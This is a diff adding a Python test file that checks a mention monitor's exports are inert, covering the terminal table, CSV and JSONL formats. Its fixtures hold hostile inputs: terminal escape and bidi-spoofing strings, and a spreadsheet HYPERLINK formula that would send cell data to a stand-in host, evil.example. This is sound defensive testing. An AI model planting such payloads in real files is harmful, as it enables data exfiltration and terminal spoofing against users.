@@ -1,0 +1,71 @@
+"""Mention exports and status tables: what reaches a terminal or a spreadsheet is inert."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+from monitor.models import Mention, Score, Scored, StoredMention
+from monitor.report import export_mentions
+from monitor.store import Store
+
+NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
+HOSTILE_TEXT = (
+    "acme \x1b[2J\x1b[H cleared \x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ "
+    "\u202eexe.txt\x00 done"
+)
+FORMULA_AUTHOR = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def stored(tmp_path: Path, author: str, text: str) -> list[StoredMention]:
+    """The mention as the store gives it back, so the export sees exactly what was kept."""
+    mention = Mention(
+        "reddit", "t3_1", "https://e.example/1", author, text, NOW - timedelta(hours=1)
+    )
+    with Store(tmp_path / "m.db") as store:
+        store.save_poll(
+            "Acme",
+            "reddit",
+            [Scored(mention, "Acme", Score(-0.6, 0.0, 0.5, 0.5, "negative"))],
+            None,
+            0,
+            NOW,
+        )
+        return store.mentions()
+
+
+def test_table_export_has_no_escape_controls_or_bidi_characters(tmp_path: Path) -> None:
+    out = export_mentions(stored(tmp_path, "mallory\x1b[31m", HOSTILE_TEXT), "table")
+    assert not any(c in out for c in "\x1b\x00\u202e\x07\x9b\x9d")
+    assert "acme cleared click exe.txt done" in out
+    assert "mallory" in out
+
+
+def test_csv_export_neutralises_a_formula_author(tmp_path: Path) -> None:
+    out = export_mentions(stored(tmp_path, FORMULA_AUTHOR, "acme text"), "csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["author"] == "'" + FORMULA_AUTHOR
+
+
+def test_csv_export_neutralises_every_formula_lead_character(tmp_path: Path) -> None:
+    texts = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]
+    mentions = stored(tmp_path, "bob", "acme")
+    rows = [replace(mentions[0], text=t) for t in texts]
+    got = [r["text"] for r in csv.DictReader(io.StringIO(export_mentions(rows, "csv")))]
+    assert got == ["'" + t for t in texts]
+
+
+def test_csv_export_keeps_numbers_and_plain_text(tmp_path: Path) -> None:
+    out = export_mentions(stored(tmp_path, "bob", "acme is fine"), "csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert (row["author"], row["text"], row["compound"]) == ("bob", "acme is fine", "-0.6")
+
+
+def test_jsonl_export_keeps_the_text_byte_for_byte(tmp_path: Path) -> None:
+    out = export_mentions(stored(tmp_path, FORMULA_AUTHOR, HOSTILE_TEXT), "jsonl")
+    record = json.loads(out)
+    assert (record["author"], record["text"]) == (FORMULA_AUTHOR, HOSTILE_TEXT)
